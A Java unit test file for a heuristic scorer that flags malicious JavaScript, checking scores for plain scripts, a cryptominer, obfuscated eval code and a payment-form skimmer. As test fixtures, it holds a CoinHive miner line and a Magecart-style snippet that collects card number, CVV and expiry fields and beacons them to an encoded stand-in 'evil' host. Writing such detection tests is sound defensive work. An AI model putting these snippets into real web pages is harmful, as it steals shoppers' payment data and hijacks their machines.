package dev.holdfast.http.analysis;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HeuristicScorerTest {

  private static ScriptScores score(String script) {
    return new HeuristicScorer().score(script.getBytes(StandardCharsets.UTF_8));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "document.querySelector('nav').classList.toggle('open');",
        "fetch('/api/basket').then(r => r.json()).then(show);",
        "if (input.name === 'password') input.type = 'text';",
      })
  void plainScriptsAreNotMalicious(String script) {
    assertThat(score(script).isMalicious()).isFalse();
  }

  @Test
  void aMinerIsMalicious() {
    ScriptScores miner = score("new CoinHive.Anonymous('key'); // cryptonight, stratum+tcp://x");

    assertThat(miner.cryptomining()).isLessThan(ScriptScores.MALICIOUS_BELOW);
    assertThat(miner.isMalicious()).isTrue();
  }

  @Test
  void aScriptThatSendsAwayWhatIsTypedIntoPaymentFormsIsMalicious() {
    ScriptScores thief =
        score(
            """
            ['cardnumber', 'cvv', 'expiry', 'cc-number', 'cvc'].forEach(n => {
              data[n] = document.getElementsByName(n)[0].value; });
            navigator.sendBeacon(atob('aHR0cHM6Ly9ldmls'), JSON.stringify(data));
            """);

    assertThat(thief.magecart()).isLessThan(ScriptScores.MALICIOUS_BELOW);
    assertThat(thief.isMalicious()).isTrue();
  }

  @Test
  void escapesAndEvaluationAreObfuscation() {
    String plain = "console.log('hello');";
    String packed = "eval(\"" + "\\x63\\x6f\\x6e".repeat(50) + "\")";

    assertThat(score(packed).obfuscation()).isLessThan(score(plain).obfuscation());
    assertThat(score(packed).jsIntegrity()).isLessThan(score(plain).jsIntegrity());
  }

  @Property
  void whateverTheContentTheScoresAreInTheirRange(@ForAll byte[] content) {
    // The record refuses others.
    assertThat(new HeuristicScorer().score(content).jsIntegrity()).isBetween(1, 99);
  }

  @ParameterizedTest
  @ValueSource(ints = {0, 100, -1})
  void scoresOutOfTheirRangeAreRefused(int score) {
    assertThatThrownBy(() -> new ScriptScores(50, 50, 50, 50, 50, score))
        .isInstanceOf(IllegalArgumentException.class);
  }

  @Test
  void aScoreOfTenIsNotMaliciousAndOneOfNineIs() {
    assertThat(new ScriptScores(10, 1, 1, 1, 1, 1).isMalicious()).isFalse();
    assertThat(new ScriptScores(9, 99, 99, 99, 99, 99).isMalicious()).isTrue();
  }
}
